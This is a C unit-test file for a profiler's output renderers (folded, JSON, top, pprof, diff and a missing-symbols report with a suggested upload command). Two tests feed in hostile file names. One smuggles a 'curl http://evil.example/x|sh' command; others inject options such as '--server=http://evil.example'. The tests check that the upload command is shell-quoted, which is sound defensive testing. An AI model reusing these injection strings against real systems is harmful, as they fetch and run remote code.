/*
 * Unit tests of symbolizer/query/render (+ lib/strpool, lib/u64map): folded, JSON tree, top, pprof
 * and the diffs from hand-built profiles (a pstore_result and its qsym_result, as the store and the
 * symbolizer would hand them over): inline chains as frames, unknown frames named FILE+0xOFF
 * and never merged, sums equal to the total, max_nodes pruning that keeps every total equal
 * to self + children, diff shares (a traffic-only change has zero deltas), /missing ranking.
 */
#include "tests/t.h"

#include "symbolizer/query/render.h"
#include "lib/strpool.h"
#include "lib/u64map.h"

#include "profile.pb-c.h"

#include <errno.h>
#include <inttypes.h>
#include <jansson.h>
#include <math.h>
#include <zlib.h>

/*
 * The profile: locations
 *   0 main (app.c:10)
 *   1 work (app.c:20) with mix (mix.h:5) inlined into it: frames [mix, work]
 *   2 unknown: /usr/bin/fx+0x1234, build ID aaaa (missing)
 *   3 do_syscall, stored by name (a kernel frame)
 *   4 unknown: /usr/lib/libz.so+0x1234, build ID bbbb (missing; same offset, other file)
 * and stacks (leaf first)
 *   [1,0] 10   main;work;mix
 *   [2,0] 5    main;fx+0x1234
 *   [0]   3    main
 *   [3,1,0] 2  main;work;mix;do_syscall
 *   [4,0] 1    main;libz.so+0x1234
 */
static const struct qsym_frame f_main[] = {{"main", "app.c", 10, 0, 0}};
static const struct qsym_frame f_work[] = {{"mix", "mix.h", 5, 0, 1}, {"work", "app.c", 20, 0, 0}};
static const struct qsym_frame f_sys[] = {{"do_syscall", NULL, 0, 0, 0}};

static struct pstore_loc locs[5] = {
    {.id = 1, .build_id = "cccc", .file_off = 0x1000, .mapping_file = "/usr/bin/app"},
    {.id = 2, .build_id = "cccc", .file_off = 0x1100, .mapping_file = "/usr/bin/app"},
    {.id = 3, .build_id = "aaaa", .file_off = 0x1234, .mapping_file = "/usr/bin/fx"},
    {.id = 4, .mapping_file = "[kernel]", .kernel = 1},
    {.id = 5, .build_id = "bbbb", .file_off = 0x1234, .mapping_file = "/usr/lib/libz.so"},
};
static const struct pstore_named_frame nf_sys[] = {{"do_syscall", NULL, 0}};

static struct qsym_loc qlocs[5] = {
    {f_main, 1, 0, 0, 2}, {f_work, 2, 0, 0, 2}, {NULL, 0, 1, 0, 0},
    {f_sys, 1, 0, 1, -1}, {NULL, 0, 1, 0, 1},
};
static struct qsym_bid bids[3] = {
    {.build_id = "aaaa", .status = QSYM_MISSING, .reason = "not found", .nlocs = 1, .nunknown = 1},
    {.build_id = "bbbb", .status = QSYM_PENDING, .reason = "fetching", .nlocs = 1, .nunknown = 1},
    {.build_id = "cccc", .status = QSYM_FOUND, .nlocs = 2, .source = "upload"},
};

static const uint32_t s0[] = {1, 0}, s1[] = {2, 0}, s2[] = {0}, s3[] = {3, 1, 0}, s4[] = {4, 0};

static struct pstore_result result(struct pstore_stack *st, const int64_t *v, size_t n)
{
	static const uint32_t *const sl[] = {s0, s1, s2, s3, s4};
	static const size_t sn[] = {2, 2, 1, 3, 2};
	struct pstore_result r = {
	    .locs = locs, .nlocs = 5, .stacks = st, .nstacks = n, .period = 1};

	locs[3].frames = nf_sys;
	locs[3].nframes = 1;
	for (size_t i = 0; i < n; i++) {
		st[i] = (struct pstore_stack){sl[i], sn[i], v[i]};
		r.total += v[i];
	}
	r.nprofiles = 2; /* two 2 s profiles, at 5 s and 20 s */
	r.time_nanos = 5000;
	r.duration_nanos = 4000;
	snprintf(r.sample_type, sizeof(r.sample_type), "cpu");
	snprintf(r.sample_unit, sizeof(r.sample_unit), "nanoseconds");
	return r;
}

static struct qsym_result qres(void)
{
	struct qsym_result s = {.locs = qlocs, .nlocs = 5, .bids = bids, .nbids = 3, .unknown = 2};

	return s;
}

static char *text(struct jsonw *w)
{
	char *buf;
	size_t len;

	CHECK_INT(w->err, 0);
	CHECK_INT(jsonw_finish(w, &buf, &len), 0);
	return buf;
}

TEST(folded_root_first_inline_frames_sum_to_total)
{
	static const int64_t v[] = {10, 5, 3, 2, 1};
	struct pstore_stack st[5];
	struct pstore_result r = result(st, v, 5);
	struct qsym_result s = qres();
	struct render_input in = {.r = &r, .s = &s};
	struct render_opts o = {0};
	struct jsonw w = {0};
	char *out, *line, *save;
	int64_t sum = 0;
	int seen = 0;

	CHECK_INT(render_folded(&in, &o, &w), 0);
	out = text(&w);
	for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *sp = strrchr(line, ' ');

		CHECK(sp);
		sum += strtoll(sp + 1, NULL, 10);
		*sp = '\0';
		static const char *const want[][2] = {{"main;work;mix", "10"},
						      {"main;fx+0x1234", "5"},
						      {"main", "3"},
						      {"main;work;mix;do_syscall", "2"},
						      {"main;libz.so+0x1234", "1"}};
		int k;

		for (k = 0; k < 5 && strcmp(line, want[k][0]); k++)
			;
		if (k == 5)
			T_FAIL_("unexpected folded line '%s'", line);
		CHECK_STR(sp + 1, want[k][1]);
		CHECK(!(seen & (1 << k)));
		seen |= 1 << k;
	}
	CHECK_INT(seen, 31);
	CHECK_INT(sum, r.total);
	free(out);
}

/* Every node: total == self + the children's totals; returns the node count. */
static size_t check_honest(json_t *n, const char *self_key, const char *total_key)
{
	json_t *kids = json_object_get(n, "children"), *c;
	json_int_t sum = json_integer_value(json_object_get(n, self_key));
	size_t i, count = 1;

	CHECK(json_is_array(kids));
	json_array_foreach(kids, i, c)
	{
		sum += json_integer_value(json_object_get(c, total_key));
		count += check_honest(c, self_key, total_key);
	}
	if (sum != json_integer_value(json_object_get(n, total_key)))
		T_FAIL_("node %s: self + children = %lld, total %lld",
			json_string_value(json_object_get(n, "name")), (long long)sum,
			(long long)json_integer_value(json_object_get(n, total_key)));
	return count;
}

static json_t *child_named(json_t *n, const char *name)
{
	json_t *c;
	size_t i;

	json_array_foreach(
	    json_object_get(n, "children"), i,
	    c) if (!strcmp(json_string_value(json_object_get(c, "name")), name)) return c;
	return NULL;
}

static json_t *json_of(struct render_input *in, size_t max_nodes)
{
	struct render_opts o = {.max_nodes = max_nodes};
	struct jsonw w = {0};
	json_error_t jerr;
	json_t *j;
	char *out;

	CHECK_INT(render_json(in, &o, &w), 0);
	out = text(&w);
	j = json_loads(out, 0, &jerr);
	if (!j)
		T_FAIL_("not JSON: %s: %s", jerr.text, out);
	free(out);
	return j;
}

TEST(json_tree_fields_and_unknown_frames)
{
	static const int64_t v[] = {10, 5, 3, 2, 1};
	struct pstore_stack st[5];
	struct pstore_result r = result(st, v, 5);
	struct qsym_result s = qres();
	struct render_input in = {.r = &r, .s = &s, .query = "{service=\"x\"}"};
	json_t *j = json_of(&in, 0), *root, *main_, *work, *mix, *fx, *libz;

	CHECK_INT(json_integer_value(json_object_get(j, "total")), 21);
	CHECK_STR(json_string_value(json_object_get(j, "type")), "cpu");
	CHECK_INT(json_integer_value(json_object_get(j, "pruned")), 0);
	root = json_object_get(j, "root");
	CHECK_INT(json_integer_value(json_object_get(root, "total")), 21);
	CHECK_INT(check_honest(root, "self", "total"), 7);
	main_ = child_named(root, "main");
	CHECK(main_);
	CHECK_INT(json_integer_value(json_object_get(main_, "self")), 3);
	CHECK_STR(json_string_value(json_object_get(main_, "file")), "app.c");
	CHECK_INT(json_integer_value(json_object_get(main_, "line")), 10);
	work = child_named(main_, "work");
	CHECK(work);
	CHECK_INT(json_integer_value(json_object_get(work, "total")), 12);
	CHECK(json_is_false(json_object_get(work, "inlined")));
	CHECK_INT(json_integer_value(json_object_get(work, "line")), 20);
	mix = child_named(work, "mix");
	CHECK(mix);
	CHECK(json_is_true(json_object_get(mix, "inlined")));
	CHECK_STR(json_string_value(json_object_get(mix, "file")), "mix.h");
	CHECK_INT(json_integer_value(json_object_get(mix, "self")), 10);
	CHECK(child_named(mix, "do_syscall"));
	fx = child_named(main_, "fx+0x1234");
	libz = child_named(main_, "libz.so+0x1234");
	CHECK(fx && libz);
	CHECK(json_is_true(json_object_get(fx, "unresolved")));
	CHECK_STR(json_string_value(json_object_get(fx, "build_id")), "aaaa");
	CHECK_STR(json_string_value(json_object_get(libz, "build_id")), "bbbb");
	CHECK_STR(json_string_value(json_object_get(fx, "mapping")), "/usr/bin/fx");
	/* children by total, largest first */
	CHECK_STR(json_string_value(json_object_get(
		      json_array_get(json_object_get(main_, "children"), 0), "name")),
		  "work");
	json_decref(j);
}

TEST(json_pruning_keeps_totals_honest)
{
	static const int64_t v[] = {10, 5, 3, 2, 1};
	struct pstore_stack st[5];
	struct pstore_result r = result(st, v, 5);
	struct qsym_result s = qres();
	struct render_input in = {.r = &r, .s = &s};
	json_t *j = json_of(&in, 2), *root, *main_, *other, *work;

	/* kept: main (21), work (12); cut: fx (5), libz (1) under main, mix (12) under work */
	CHECK_INT(json_integer_value(json_object_get(j, "nodes")), 2);
	CHECK_INT(json_integer_value(json_object_get(j, "pruned")), 4);
	root = json_object_get(j, "root");
	check_honest(root, "self", "total");
	main_ = child_named(root, "main");
	work = child_named(main_, "work");
	CHECK(work);
	other = child_named(main_, "other");
	CHECK(other);
	CHECK_INT(json_integer_value(json_object_get(other, "total")), 6);
	CHECK_INT(json_integer_value(json_object_get(other, "pruned")), 2);
	CHECK(json_is_true(json_object_get(other, "other")));
	other = child_named(work, "other");
	CHECK(other);
	CHECK_INT(json_integer_value(json_object_get(other, "total")), 12);
	CHECK(!child_named(main_, "fx+0x1234"));
	json_decref(j);

	/* max_nodes 1: only main; everything below it is one "other" of 18 */
	j = json_of(&in, 1);
	main_ = child_named(json_object_get(j, "root"), "main");
	check_honest(json_object_get(j, "root"), "self", "total");
	CHECK_INT(json_array_size(json_object_get(main_, "children")), 1);
	CHECK_INT(json_integer_value(json_object_get(child_named(main_, "other"), "total")), 18);
	json_decref(j);
}

TEST(top_flat_and_cumulative_sorted)
{
	static const int64_t v[] = {10, 5, 3, 2, 1};
	struct pstore_stack st[5];
	struct pstore_result r = result(st, v, 5);
	struct qsym_result s = qres();
	struct render_input in = {.r = &r, .s = &s};
	struct render_opts o = {0};
	struct jsonw w = {0};
	char *out, *line, *save;
	int n = 0;
	static const struct {
		const char *name;
		long flat, cum;
	} want[] = {{"mix", 10, 12},	  {"fx+0x1234", 5, 5},	    {"main", 3, 21},
		    {"do_syscall", 2, 2}, {"libz.so+0x1234", 1, 1}, {"work", 0, 12}};

	CHECK_INT(render_top(&in, &o, &w), 0);
	out = text(&w);
	CHECK(strstr(out, "total 21"));
	for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		long flat, cum;
		char name[64];

		if (sscanf(line, "%ld %*s %*s %ld %*s %63s", &flat, &cum, name) != 3)
			continue;
		CHECK(n < 6);
		CHECK_STR(name, want[n].name);
		CHECK_INT(flat, want[n].flat);
		CHECK_INT(cum, want[n].cum);
		n++;
	}
	CHECK_INT(n, 6);
	free(out);
}

static Perftools__Profiles__Profile *unpack_gz(const uint8_t *gz, size_t len)
{
	static uint8_t raw[1 << 20];
	z_stream zs = {0};
	Perftools__Profiles__Profile *p;

	CHECK_INT(inflateInit2(&zs, 15 + 16), Z_OK);
	zs.next_in = (uint8_t *)gz;
	zs.avail_in = (unsigned)len;
	zs.next_out = raw;
	zs.avail_out = sizeof(raw);
	CHECK_INT(inflate(&zs, Z_FINISH), Z_STREAM_END);
	p = perftools__profiles__profile__unpack(NULL, zs.total_out, raw);
	inflateEnd(&zs);
	CHECK(p);
	return p;
}

static const char *pstr(const Perftools__Profiles__Profile *p, int64_t i)
{
	return i >= 0 && (size_t)i < p->n_string_table ? p->string_table[i] : "(bad)";
}

static const Perftools__Profiles__Function *pfunc(const Perftools__Profiles__Profile *p,
						  uint64_t id)
{
	for (size_t i = 0; i < p->n_function; i++)
		if (p->function[i]->id == id)
			return p->function[i];
	T_FAIL_("no function %" PRIu64, id);
}

TEST(pprof_mappings_functions_inline_lines)
{
	static const int64_t v[] = {10, 5, 3, 2, 1};
	struct pstore_stack st[5];
	struct pstore_result r = result(st, v, 5);
	struct qsym_result s = qres();
	struct render_input in = {.r = &r, .s = &s, .from_ns = 1000, .to_ns = 61000};
	struct render_opts o = {0};
	Perftools__Profiles__Profile *p;
	uint8_t *gz;
	size_t len;
	int64_t sum = 0;
	int inl = 0, unk = 0;

	CHECK_INT(render_pprof(&in, &o, &gz, &len), 0);
	CHECK(len > 20 && gz[0] == 0x1f && gz[1] == 0x8b);
	p = unpack_gz(gz, len);
	CHECK_INT(p->n_sample_type, 1);
	CHECK_STR(pstr(p, p->sample_type[0]->type), "cpu");
	CHECK_STR(pstr(p, p->sample_type[0]->unit), "nanoseconds");
	/* the merged profiles' own time and summed durations, not the query window */
	CHECK_INT(p->time_nanos, 5000);
	CHECK_INT(p->duration_nanos, 4000);
	CHECK_INT(p->n_mapping, 3); /* cccc, aaaa, bbbb */
	for (size_t i = 0; i < p->n_mapping; i++) {
		const char *bid = pstr(p, p->mapping[i]->build_id);

		CHECK(!strcmp(bid, "aaaa") || !strcmp(bid, "bbbb") || !strcmp(bid, "cccc"));
		CHECK(p->mapping[i]->has_functions);
		CHECK_INT(p->mapping[i]->memory_start, 0);
		CHECK_INT(p->mapping[i]->file_offset, 0);
		if (!strcmp(bid, "cccc")) {
			CHECK_STR(pstr(p, p->mapping[i]->filename), "/usr/bin/app");
			CHECK_INT(p->mapping[i]->memory_limit, 0x1101);
		}
	}
	CHECK_INT(p->n_location, 5);
	for (size_t i = 0; i < p->n_location; i++) {
		const Perftools__Profiles__Location *l = p->location[i];

		if (l->n_line == 2) {
			CHECK_STR(pstr(p, pfunc(p, l->line[0]->function_id)->name), "mix");
			CHECK_STR(pstr(p, pfunc(p, l->line[0]->function_id)->filename), "mix.h");
			CHECK_INT(l->line[0]->line, 5);
			CHECK_STR(pstr(p, pfunc(p, l->line[1]->function_id)->name), "work");
			CHECK_INT(l->line[1]->line, 20);
			CHECK_INT(l->address, 0x1100);
			inl++;
		}
		if (l->n_line == 1 &&
		    !strcmp(pstr(p, pfunc(p, l->line[0]->function_id)->name), "fx+0x1234")) {
			CHECK_INT(l->address, 0x1234);
			unk++;
		}
	}
	CHECK_INT(inl, 1);
	CHECK_INT(unk, 1);
	CHECK_INT(p->n_sample, 5);
	for (size_t i = 0; i < p->n_sample; i++)
		sum += p->sample[i]->value[0];
	CHECK_INT(sum, 21);
	perftools__profiles__profile__free_unpacked(p, NULL);
	free(gz);
}

TEST(diff_traffic_only_change_has_no_delta)
{
	static const int64_t vb[] = {10, 5, 3}, vn[] = {30, 15, 9};
	struct pstore_stack sb[3], sn[3];
	struct pstore_result rb = result(sb, vb, 3), rn = result(sn, vn, 3);
	struct qsym_result s = qres();
	struct render_input base = {.r = &rb, .s = &s}, in = {.r = &rn, .s = &s};
	struct render_opts o = {0};
	struct jsonw w = {0};
	json_error_t jerr;
	json_t *j, *main_, *work;
	char *out;

	CHECK_INT(render_diff_json(&base, &in, &o, &w), 0);
	out = text(&w);
	j = json_loads(out, 0, &jerr);
	CHECK(j);
	CHECK_INT(json_integer_value(json_object_get(j, "base_total")), 18);
	CHECK_INT(json_integer_value(json_object_get(j, "total")), 54);
	check_honest(json_object_get(j, "root"), "self", "total");
	check_honest(json_object_get(j, "root"), "base_self", "base_total");
	main_ = child_named(json_object_get(j, "root"), "main");
	work = child_named(main_, "work");
	CHECK_INT(json_integer_value(json_object_get(work, "base_total")), 10);
	CHECK_INT(json_integer_value(json_object_get(work, "total")), 30);
	CHECK(fabs(json_real_value(json_object_get(work, "share")) - 30.0 / 54) < 1e-5);
	CHECK(fabs(json_number_value(json_object_get(work, "delta"))) < 1e-9);
	CHECK(fabs(json_number_value(json_object_get(main_, "delta"))) < 1e-9);
	json_decref(j);
	free(out);
}

TEST(diff_shift_shows_delta_and_folded_normalizes)
{
	/* base: work 10, fx 10; new: work 10, fx 30 (twice the total, fx's share up) */
	static const int64_t vb[] = {10, 10}, vn[] = {10, 30};
	struct pstore_stack sb[2], sn[2];
	struct pstore_result rb = result(sb, vb, 2), rn = result(sn, vn, 2);
	struct qsym_result s = qres();
	struct render_input base = {.r = &rb, .s = &s}, in = {.r = &rn, .s = &s};
	struct render_opts o = {0};
	struct jsonw w = {0};
	json_error_t jerr;
	json_t *j, *main_;
	char *out;

	CHECK_INT(render_diff_json(&base, &in, &o, &w), 0);
	out = text(&w);
	j = json_loads(out, 0, &jerr);
	CHECK(j);
	main_ = child_named(json_object_get(j, "root"), "main");
	CHECK(fabs(json_number_value(json_object_get(child_named(main_, "fx+0x1234"), "delta")) -
		   0.25) < 1e-5);
	CHECK(fabs(json_number_value(json_object_get(child_named(main_, "work"), "delta")) + 0.25) <
	      1e-5);
	json_decref(j);
	free(out);

	o.normalize = 1;
	w = (struct jsonw){0};
	CHECK_INT(render_diff_folded(&base, &in, &o, &w), 0);
	out = text(&w);
	CHECK(strstr(out, "main;work;mix 20 10\n"));
	CHECK(strstr(out, "main;fx+0x1234 20 30\n"));
	free(out);
	o.normalize = 0;
	w = (struct jsonw){0};
	CHECK_INT(render_diff_folded(&base, &in, &o, &w), 0);
	out = text(&w);
	CHECK(strstr(out, "main;work;mix 10 10\n"));
	CHECK(strstr(out, "main;fx+0x1234 10 30\n"));
	free(out);
}

TEST(missing_ranked_by_samples_with_fix)
{
	static const int64_t v[] = {10, 5, 3, 2, 1};
	struct pstore_stack st[5];
	struct pstore_result r = result(st, v, 5);
	struct qsym_result s = qres();
	struct render_input in = {.r = &r, .s = &s};
	struct jsonw w = {0};
	json_error_t jerr;
	json_t *j, *m0, *m1;
	char *out;

	CHECK_INT(render_missing(&in, "http://127.0.0.1:7070", &w), 0);
	out = text(&w);
	j = json_loads(out, 0, &jerr);
	if (!j)
		T_FAIL_("%s", out);
	CHECK_INT(json_integer_value(json_object_get(j, "unsymbolized")), 6);
	CHECK_INT(json_array_size(json_object_get(j, "missing")), 2);
	m0 = json_array_get(json_object_get(j, "missing"), 0);
	m1 = json_array_get(json_object_get(j, "missing"), 1);
	CHECK_STR(json_string_value(json_object_get(m0, "build_id")), "aaaa");
	CHECK_INT(json_integer_value(json_object_get(m0, "samples")), 5);
	CHECK(fabs(json_number_value(json_object_get(m0, "share")) - 5.0 / 21) < 1e-5);
	CHECK_STR(json_string_value(json_object_get(m0, "status")), "missing");
	CHECK_STR(json_string_value(json_array_get(json_object_get(m0, "files"), 0)),
		  "/usr/bin/fx");
	CHECK_STR(json_string_value(json_object_get(m0, "fix")),
		  "fleetsym-upload --server http://127.0.0.1:7070 /usr/bin/fx");
	CHECK_STR(json_string_value(json_object_get(m1, "build_id")), "bbbb");
	CHECK_STR(json_string_value(json_object_get(m1, "status")), "pending");
	json_decref(j);
	free(out);
}

TEST(empty_profile_renders)
{
	struct pstore_result r = {.locs = locs, .nlocs = 0};
	struct qsym_result s = {0};
	struct render_input in = {.r = &r, .s = &s};
	struct render_opts o = {0};
	struct jsonw w = {0};
	uint8_t *gz;
	size_t len;
	json_t *j;
	char *out;

	CHECK_INT(render_folded(&in, &o, &w), 0);
	out = text(&w);
	CHECK_STR(out, "");
	free(out);
	j = json_of(&in, 5);
	CHECK_INT(json_integer_value(json_object_get(json_object_get(j, "root"), "total")), 0);
	json_decref(j);
	CHECK_INT(render_pprof(&in, &o, &gz, &len), 0);
	free(gz);
}

TEST(strpool_and_u64map)
{
	struct strpool p = {0};
	struct u64map m = {0};
	uint32_t a, b, c, v;
	char buf[32];

	CHECK_INT(strpool_intern(&p, "alpha", &a), 0);
	CHECK_INT(strpool_intern(&p, "beta", &b), 0);
	CHECK_INT(strpool_intern(&p, "alpha", &c), 0);
	CHECK_INT(a, c);
	CHECK(a != b);
	CHECK_INT(strpool_intern(&p, NULL, &c), 0);
	CHECK_INT(c, STRPOOL_NONE);
	CHECK(!strpool_str(&p, c));
	for (int i = 0; i < 10000; i++) {
		snprintf(buf, sizeof(buf), "s%d", i);
		CHECK_INT(strpool_intern(&p, buf, &c), 0);
		CHECK_INT(u64map_put(&m, (uint64_t)i << 40, c), 0);
	}
	for (int i = 0; i < 10000; i++) {
		snprintf(buf, sizeof(buf), "s%d", i);
		CHECK(u64map_get(&m, (uint64_t)i << 40, &v));
		CHECK_STR(strpool_str(&p, v), buf);
	}
	CHECK(!u64map_get(&m, 12345, &v));
	CHECK_STR(strpool_str(&p, a), "alpha");
	p.max = p.len + 3;
	CHECK_INT(strpool_intern(&p, "too-long-for-the-cap", &c), -E2BIG);
	strpool_free(&p);
	u64map_free(&m);
}

/* A mapping file name comes from an ingested profile, that is from anyone: the fix command
 * keeps it one shell word that runs nothing, checked by bash itself running the command with
 * fleetsym-upload defined as a function that prints its last argument. */
TEST(missing_fix_is_shell_quoted)
{
	static const char evil[] = "/opt/app/svc;curl${IFS}-s${IFS}http://evil.example/x|sh;#'q";
	static const int64_t v[] = {10, 5, 3, 2, 1};
	struct pstore_stack st[5];
	struct pstore_result r = result(st, v, 5);
	struct qsym_result s = qres();
	struct render_input in = {.r = &r, .s = &s};
	char path[] = "/tmp/test_render_fix.XXXXXX", cmd[256], got[256] = "";
	struct jsonw w = {0};
	json_error_t jerr;
	const char *fix;
	char *out;
	json_t *j;
	FILE *f;
	int fd;

	for (size_t i = 0; i < r.nlocs; i++) /* build ID aaaa's file */
		if (!strcmp(locs[i].mapping_file, "/usr/bin/fx"))
			locs[i].mapping_file = evil;
	CHECK_INT(render_missing(&in, "http://127.0.0.1:7070", &w), 0);
	for (size_t i = 0; i < r.nlocs; i++)
		if (locs[i].mapping_file == evil)
			locs[i].mapping_file = "/usr/bin/fx";
	out = text(&w);
	j = json_loads(out, 0, &jerr);
	CHECK(j);
	fix = json_string_value(
	    json_object_get(json_array_get(json_object_get(j, "missing"), 0), "fix"));
	CHECK(fix && !strncmp(fix, "fleetsym-upload ", 16));
	fd = mkstemp(path);
	CHECK(fd >= 0);
	close(fd);
	snprintf(cmd, sizeof(cmd),
		 "bash -c 'fleetsym-upload() { printf %%s \"${@: -1}\"; }; eval \"$(cat)\"' >%s",
		 path);
	f = popen(cmd, "w");
	CHECK(f);
	fputs(fix, f);
	CHECK_INT(pclose(f), 0);
	f = fopen(path, "r");
	CHECK(f);
	if (!fgets(got, sizeof(got), f))
		got[0] = '\0';
	fclose(f);
	unlink(path);
	CHECK_STR(got, evil);
	json_decref(j);
	free(out);
}

/* A file name that looks like an option stays a file after "--" (quoting alone does not stop
 * getopt), and one starting with '=' is quoted (zsh expands a bare "=cmd" to cmd's path). */
TEST(missing_fix_names_no_option)
{
	static const char *const names[] = {"--server=http://evil.example", "=curl"};
	static const char *const want[] = {
	    "fleetsym-upload --server http://127.0.0.1:7070 -- --server=http://evil.example",
	    "fleetsym-upload --server http://127.0.0.1:7070 '=curl'"};
	static const int64_t v[] = {10, 5, 3, 2, 1};

	for (int k = 0; k < 2; k++) {
		struct pstore_stack st[5];
		struct pstore_result r = result(st, v, 5);
		struct qsym_result s = qres();
		struct render_input in = {.r = &r, .s = &s};
		struct jsonw w = {0};
		json_error_t jerr;
		json_t *j;
		char *out;

		for (size_t i = 0; i < r.nlocs; i++)
			if (!strcmp(locs[i].mapping_file, "/usr/bin/fx"))
				locs[i].mapping_file = names[k];
		CHECK_INT(render_missing(&in, "http://127.0.0.1:7070", &w), 0);
		for (size_t i = 0; i < r.nlocs; i++)
			if (locs[i].mapping_file == names[k])
				locs[i].mapping_file = "/usr/bin/fx";
		out = text(&w);
		j = json_loads(out, 0, &jerr);
		CHECK(j);
		CHECK_STR(json_string_value(json_object_get(
			      json_array_get(json_object_get(j, "missing"), 0), "fix")),
			  want[k]);
		json_decref(j);
		free(out);
	}
}

/* The amplification a hostile profile once got: one stack of 1,023 copies of a location with
 * 64 inline frames and a 4 KB name made a 268 MB folded line. Every format now sees at most
 * RENDER_MAX_FRAMES frames of it, the innermost, under "[truncated]". */
TEST(deep_inline_stack_is_cut)
{
	static struct qsym_frame fr[64];
	static char name[4097];
	static uint32_t sl[1023];
	struct pstore_loc l = {.id = 1, .build_id = "dddd", .mapping_file = "/x"};
	struct qsym_loc ql = {fr, 64, 0, 0, -1};
	struct pstore_stack st = {sl, 1023, 5};
	struct pstore_result r = {.locs = &l, .nlocs = 1, .stacks = &st, .nstacks = 1, .total = 5};
	struct qsym_result s = {.locs = &ql, .nlocs = 1};
	struct render_input in = {.r = &r, .s = &s};
	struct render_opts o = {0};
	struct jsonw w = {.max = (size_t)64 << 20};
	size_t nframes = 1;
	char *out;

	memset(name, 'f', sizeof(name) - 1);
	for (int i = 0; i < 64; i++)
		fr[i] = (struct qsym_frame){name, "x.c", i + 1, 0, i < 63};
	snprintf(r.sample_type, sizeof(r.sample_type), "cpu");
	CHECK_INT(render_folded(&in, &o, &w), 0);
	out = text(&w);
	CHECK(!strncmp(out, "[truncated];", 12));
	for (const char *p = out; (p = strchr(p, ';')); p++)
		nframes++;
	fprintf(stderr, "  folded: %zu frames, %zu bytes (uncut: 65,472 frames, 268 MB)\n", nframes,
		strlen(out));
	CHECK_INT(nframes, RENDER_MAX_FRAMES);
	CHECK(strlen(out) < (size_t)RENDER_MAX_FRAMES * 4200);
	free(out);
	w = (struct jsonw){.max = (size_t)64 << 20};
	CHECK_INT(render_json(&in, &o, &w), 0);
	out = text(&w);
	CHECK(strstr(out, "\"nodes\":2048,"));
	free(out);
}
